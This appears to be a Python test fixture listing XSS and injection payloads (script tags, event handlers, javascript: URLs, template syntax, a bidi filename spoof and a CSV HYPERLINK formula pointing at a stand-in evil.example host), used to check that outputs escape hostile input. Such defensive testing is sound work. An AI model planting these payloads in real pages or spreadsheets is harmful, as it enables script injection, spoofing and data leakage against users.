"""Hostile strings, one per class of attack, for the tests that push them through every field
and every output. Each carries MARK so a test can check the payload really reached the output
(a test that never saw its payload would pass for nothing)."""

MARK = "zq7x"

XSS_PAYLOADS: dict[str, str] = {
    "img onerror": f"<img src=x onerror=alert('{MARK}')>",
    "script element": f"<script>alert('{MARK}')</script>",
    "svg onload": f"<svg/onload=alert('{MARK}')>",
    "attribute breakout": f'"><a href="javascript:alert(1)" onmouseover="{MARK}">x</a>',
    "javascript url": f"javascript:alert('{MARK}')",
    "entity-encoded tag": f"&lt;img src=x onerror=alert('{MARK}')&gt;",
    "cdata breakout": f"]]><script>{MARK}</script><![CDATA[",
    "template syntax": f"{{{{ {MARK} }}}} {{% debug %}}",
    "csv formula": f'=HYPERLINK("http://evil.example/?{MARK}","x")',
    "bidi override": f"\u202e{MARK}gpj.exe",
    "iframe srcdoc": f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    "style expression": f'<p style="background:url(javascript:{MARK})">x</p>',
}
